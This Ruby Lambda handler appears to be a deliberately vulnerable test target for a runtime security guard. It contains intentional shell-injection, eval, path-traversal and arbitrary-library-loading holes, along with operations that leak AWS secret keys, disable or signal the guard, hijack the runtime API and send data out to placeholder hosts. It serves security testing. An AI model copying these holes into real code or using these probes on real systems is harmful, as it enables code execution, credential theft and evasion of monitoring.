# frozen_string_literal: true

# Does what its event asks for, and trusts it: a victim for the attack matrix. `op` names the operation, `v` is the value it uses.
require "base64"
require "erb"
require "fiddle"
require "fileutils"
require "json"
require "net/http"
require "resolv"
require "socket"
require "uri"

DATA_DIR = "/var/task/data"
UPLOADS = "/tmp/uploads"

def operation(event)
  return event["detail"].values_at("op", "v") if event["detail"]

  if (record = event["Records"]&.first)
    return [record["s3"]["bucket"]["name"], URI.decode_www_form_component(record["s3"]["object"]["key"])] if record["s3"]
    return record["dynamodb"]["NewImage"].values_at("op", "v").map { |value| value["S"] } if record["dynamodb"]

    return JSON.parse(record["body"] || record.dig("Sns", "Message") || Base64.decode64(record["kinesis"]["data"])).values_at("op", "v")
  end
  if (query = event["queryStringParameters"])
    return ["cookie", URI.decode_www_form_component(event["cookies"][1].split("=", 2)[1])] if query["op"] == "cookie"
    return ["names", query.keys.reject { |name| name == "op" }.join(" ")] if query["op"] == "names"
    return ["parts", JSON.parse(event["body"])["parts"].join(" ")] if query["op"] == "parts"

    return [query["op"], query["v"] || upload_of(event)]
  end

  JSON.parse(event["isBase64Encoded"] ? Base64.decode64(event["body"]) : event["body"]).values_at("op", "v")
end

# What was sent as bytes, in base64: the body, or the file in a form behind its first field.
def upload_of(event)
  boundary = event["headers"]["content-type"].split("boundary=")[1]
  return event["body"] unless boundary

  Base64.strict_encode64(Base64.decode64(event["body"]).split("--#{boundary}")[2].split("\r\n\r\n", 2)[1][0..-3])
end

def sh(command) = `#{command}`
def run(*argv, **options) = IO.popen([*argv, { err: File::NULL, **options }], &:read)
def get(url) = Net::HTTP.get(URI(url))

def write(path, content = "x")
  File.write(path, content)
  "written #{path}"
end

def upload(name)
  FileUtils.mkdir_p(UPLOADS)
  File.join(UPLOADS, name)
end

def connect(target)
  host, port = target.split(":")
  Socket.tcp(host, Integer(port), connect_timeout: 0.5) { "connected" }
end

def tar(value)
  run("/bin/tar", "cf", "/tmp/out.tar", "-C", DATA_DIR, value, "words.txt")
  head = File.binread("/tmp/out.tar", 40).to_s
  head.start_with?("uid=") ? head : "archived"
end

def untar(value)
  FileUtils.mkdir_p(UPLOADS)
  File.binwrite("/tmp/in.tar", Base64.decode64(value))
  run("/bin/tar", "xPf", "/tmp/in.tar", "-C", UPLOADS)
  "unpacked #{File.read(upload(run("/bin/tar", "tPf", "/tmp/in.tar").strip))}"
end

def delete(value)
  write(upload("old.txt"))
  write("/tmp/precious.txt")
  File.unlink(upload(value))
  "deleted"
end

def link(target)
  FileUtils.rm_f("/tmp/innocent")
  File.symlink(target, "/tmp/innocent")
  File.read("/tmp/innocent")
end

def memory
  start = File.readlines("/proc/self/maps").find { |line| line.include?("[stack]") }.to_i(16)
  File.open("/proc/self/mem", "rb") { |file| "read #{file.pread(8, start).bytesize} bytes of memory" }
end

def dropped
  write("/tmp/dropped.sh", "#!/bin/sh\necho it-ran\n")
  File.chmod(0o755, "/tmp/dropped.sh")
  run("/tmp/dropped.sh")
end

def job(script, *arguments)
  write("/tmp/job.sh", script)
  run("/bin/sh", "/tmp/job.sh", *arguments)
end

def ld_so
  FileUtils.cp("/bin/cat", "/tmp/dropped-cat")
  "it-read #{run("/lib64/ld-linux-x86-64.so.2", "/tmp/dropped-cat", "#{DATA_DIR}/words.txt")}"
end

# By the number of the call.
def memfd
  descriptor = syscall(319, +"x", 0)
  IO.new(descriptor, "wb", autoclose: false).tap { |file| file.write(File.binread("/bin/echo")) }.flush
  run("/proc/self/fd/#{descriptor}", "from-memory", descriptor => descriptor)
end

def with_child
  child = spawn("/bin/sleep", "5")
  yield child
ensure
  Process.kill(:KILL, child)
  Process.wait(child)
end

# By a look-up of its own.
def ptrace(pid)
  long = Fiddle::TYPE_LONG
  call = Fiddle::Function.new(Fiddle::Handle::DEFAULT["ptrace"], [long] * 4, long)
  raise SystemCallError.new("ptrace", Fiddle.last_error) unless call.call(0x4206, pid, 0, 0).zero? # PTRACE_SEIZE

  "traced"
end

def signal_guard
  Dir.children("/proc").grep(/\A\d+\z/).each do |pid|
    line = begin
      File.binread("/proc/#{pid}/cmdline")
    rescue SystemCallError
      next # it ended
    end
    next unless line.include?("/opt/extensions/pellicle")

    Process.kill(:CONT, Integer(pid))
    return "signalled the guard"
  end
  "no guard"
end

def preload
  FileUtils.cp("#{DATA_DIR}/hook.so", "/tmp/hook.so")
  IO.popen({ "LD_PRELOAD" => "/tmp/hook.so" }, ["/bin/sh", "/var/task/script.sh"], &:read)
end

def first
  write("/tmp/first.sh", "echo loaded-it\n")
  IO.popen({ "BASH_ENV" => "/tmp/first.sh" }, ["/bin/bash", "-c", "true"], &:read)
end

def load_library(path, content = nil)
  FileUtils.rm_f("/tmp/loaded.txt")
  File.binwrite(path, content) if content
  Fiddle.dlopen(path)
  File.read("/tmp/loaded.txt")
end

# A child that is told to load a file first: one that was dropped, or one of the package.
def hooked(where)
  file = "#{DATA_DIR}/hooks/first.rb"
  FileUtils.cp(file, file = "/tmp/first.rb") if where == "dropped"
  IO.popen({ "RUBYOPT" => "#{ENV.fetch("RUBYOPT", nil)} -r#{file}" }, [RbConfig.ruby, "-e", "0"], &:read)
end

LEFT = [] # rubocop:disable Style/MutableConstant

def leave(*argv)
  reader, writer = IO.pipe
  LEFT << writer
  File.write(upload("left.pid"), "#{spawn(*argv, in: reader, out: File::NULL, err: File::NULL)}\n")
  "left behind"
end

def persist
  leave("/usr/bin/tail", "-f", "/dev/null")
ensure
  begin
    File.read("/proc/self/environ")
  rescue SystemCallError
    nil # stopped
  end
end

def datagram(target)
  host, port = target.split(":")
  begin
    UDPSocket.new.send("what was found", 0, host, Integer(port))
  rescue Errno::ENETUNREACH
    nil # this machine has no way there
  end
  "sent"
end

def keep(content)
  File.binwrite("/tmp/kept.bin", content)
  "kept #{content.bytesize} bytes"
end

def load_module(name, text)
  write("/tmp/#{name}.rb", text)
  load("/tmp/#{name}.rb")
  $x # rubocop:disable Style/GlobalVars
end

def api(method, path, body, address = ENV.fetch("AWS_LAMBDA_RUNTIME_API"))
  run("/bin/bash", "/var/task/http.sh", *address.split(":"), method, "/2018-06-01/runtime/invocation/#{path}", body)
end

def upstream
  channel = ENV.fetch("PELLICLE_CHANNEL", "")
  channel.include?("/") ? channel.split("/", 2)[1] : ENV.fetch("AWS_LAMBDA_RUNTIME_API")
end

def perform(name, value, id)
  case name
  when "shell", "cookie", "names", "parts" then run("/bin/sh", "-c", "echo report #{value}") # a plain command is started without a shell by the backticks
  when "shell-twice" then run("/bin/sh", "-c", "echo report #{Base64.decode64(Base64.decode64(value))}")
  when "shell-reversed" then run("/bin/sh", "-c", "echo report #{value.reverse}")
  when "launch" then run("/usr/bin/env", *value.split)
  when "launch-own" then run("/usr/bin/env", "CUSTOMER=#{value}", "/bin/cat", "#{DATA_DIR}/words.txt")
  when "keep" then keep(Base64.decode64(value))
  when "module" then load_module("sent", value)
  when "module-own" then load_module("own", "# Settings of this environment, made by the function itself.\n$x = #{value.inspect}\n")
  when "page-link" then "<html><body><a href='#{value}'>Your site</a></body></html>"
  when "awk" then run("/usr/bin/awk", "{print $0, \"#{value}\"}", "#{DATA_DIR}/words.txt")
  when "page" then "<html><body><p>Dear #{value}</p></body></html>"
  when "library" then load_library("/tmp/library-#{id}.so", Base64.decode64(value)) # what is loaded already is not loaded again
  when "library-own" then load_library("#{DATA_DIR}/library.so")
  when "processes" then run("/bin/sh", "/var/task/processes.sh")
  when "environ-list" then sh("ps axeww")
  when "open" then open(value, &:read) # rubocop:disable Security/Open
  when "tar" then tar(value)
  when "read" then File.read(File.expand_path(value, DATA_DIR))
  when "read-base64" then File.read(File.join(DATA_DIR, Base64.decode64(value)))
  when "sed" then run("/bin/sed", "s/NAME/#{value}/", "#{DATA_DIR}/words.txt")
  when "cat" then run("/bin/cat", *value.split, chdir: DATA_DIR)
  when "untar" then untar(value)
  when "ld-so" then ld_so
  when "write" then write(upload(value))
  when "delete" then delete(value)
  when "fetch" then get(value.include?("://") ? value : "http://#{ENV.fetch("BACKEND")}/#{value}")
  when "connect-backend" then connect(ENV.fetch("BACKEND"))
  when "connect-other" then connect(ENV.fetch("OTHER"))
  when "mine" then connect(ENV.fetch("POOL"))
  when "lookup" then "found #{Addrinfo.getaddrinfo(value, 80)[0].ip_address}"
  when "datagram" then datagram(ENV.fetch("OTHER"))
  when "resolver" then datagram("198.51.100.53:53")
  when "resolver-own" then datagram("127.0.0.53:53")
  when "eval" then eval(value).to_s # rubocop:disable Security/Eval
  when "template" then ERB.new(value).result
  when "environ" then File.read("/proc/self/environ")
  when "environ-link" then link("/proc/self/environ")
  when "environ-child" then sh("tr '\\0' '\\n' </proc/$PPID/environ")
  when "environ-cleared" then run("/usr/bin/env", "-i", "/bin/sh", "-c", "tr '\\0' '\\n' </proc/$PPID/environ")
  when "memory" then memory
  when "link" then link("#{DATA_DIR}/words.txt")
  when "dropped" then dropped
  when "job" then job(value)
  when "job-own" then job("#!/bin/sh\necho \"the nightly report for $1\"\n", value)
  when "memfd" then memfd
  when "variable" then IO.popen([[value.split("=", 2)].to_h, "/bin/bash", "-c", "cat #{DATA_DIR}/words.txt"], &:read)
  when "script" then run("/bin/sh", "/var/task/script.sh")
  when "stop-runtime" then sh("kill -STOP $PPID; kill -CONT $PPID && echo stopped-it")
  when "stop-own" then sh("sleep 5 & kill -TERM $! && echo stopped-own")
  when "signal-guard" then signal_guard
  when "ptrace" then with_child { |pid| ptrace(pid) }
  when "child" then with_child { |pid| "child #{pid.positive?}" }
  when "poll" then api("GET", "next", "")
  when "poll-upstream" then api("GET", "next", "", upstream)
  when "answer" then api("POST", "01234567-89ab-cdef-0123-456789abcdef/response", "stolen")
  when "answer-current" then api("POST", "#{id}/response", '"stolen"')
  when "switch-runtime" then run("/bin/bash", "/var/task/switch.sh", Process.pid.to_s, *ENV.fetch("AWS_LAMBDA_RUNTIME_API").split(":"), id)
  when "leak" then "leaked:#{ENV.fetch("AWS_SECRET_ACCESS_KEY")}"
  when "key-id" then "role key id has #{ENV.fetch("AWS_ACCESS_KEY_ID").length} characters"
  when "poison"
    FileUtils.mkdir_p("/tmp/.pellicle")
    write("/tmp/.pellicle/policy.json", '{"schemaVersion":1,"mode":"off"}')
  when "note" then write("/tmp/note.txt")
  when "uname" then run("/bin/uname")
  when "preload" then preload
  when "first" then first
  when "hooked" then hooked(value)
  when "background"
    Process.detach(spawn("/bin/sleep", "30", pgroup: true, in: File::NULL, out: File::NULL, err: File::NULL))
    "left behind"
  when "stay-shell" then leave("/bin/sh", "-c", "read x")
  when "persist" then persist
  when "survivor" then run("/bin/sh", "/var/task/survivor.sh")
  when "sleepers" then sh("cat /proc/[0-9]*/stat 2>/dev/null | grep -c '(sleep) [^Z]'")
  when "pause" then sleep(2.5) && "paused"
  when "dump" then "row,password\n" * 20_000
  when "none" then "nothing"
  else raise ArgumentError, "no operation #{name}"
  end
end

def handler(event:, context:)
  { statusCode: 200, body: perform(*operation(event), context.aws_request_id) }
rescue StandardError => e
  { statusCode: 500, body: "error: #{e.class}" }
end
